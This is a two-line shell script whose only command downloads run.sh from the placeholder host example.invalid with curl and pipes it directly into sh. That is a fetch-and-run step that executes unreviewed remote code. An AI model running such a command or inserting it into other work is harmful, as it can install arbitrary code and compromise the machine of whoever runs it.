#!/bin/sh
curl -fsSL http://example.invalid/run.sh | sh
